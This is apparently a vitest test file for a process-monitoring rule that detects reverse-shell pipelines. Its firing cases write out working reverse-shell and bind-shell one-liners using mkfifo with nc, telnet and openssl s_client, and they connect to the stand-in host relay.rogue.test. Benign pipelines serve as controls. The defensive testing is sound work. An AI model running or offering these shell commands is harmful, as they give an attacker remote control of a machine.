import { describe } from 'vitest';
import { sh, ruleTable } from '../../test-kit.js';
import { pipeline } from './reverse-shell-pipeline.js';

describe('proc.reverse-shell-pipeline', () => {
  ruleTable(pipeline, {
    fires: [
      {
        name: 'mkfifo nc pipeline',
        event: sh(
          'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc relay.rogue.test 4444 >/tmp/f',
        ),
      },
      {
        name: 'telnet two-way',
        event: sh('telnet relay.rogue.test 80 | /bin/bash | telnet relay.rogue.test 443'),
      },
      {
        name: 'openssl s_client',
        event: sh(
          'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect relay.rogue.test:443 > /tmp/s',
        ),
      },
      { name: 'bind shell via nc -l | sh', event: sh('nc -l -p 4444 | sh') },
    ],
    passes: [
      { name: 'curl piped to jq', event: sh('curl -s https://registry.test/api | jq .') },
      {
        name: 'sh -c in a pipeline with nc',
        event: sh("echo hi | nc -q1 localhost 8080 | sh -c 'cat > out.txt'"),
      },
      {
        name: 'mkfifo for a local pipeline',
        event: sh('mkfifo /tmp/p; sort < /tmp/p > out & seq 10 > /tmp/p'),
      },
    ],
  });
});
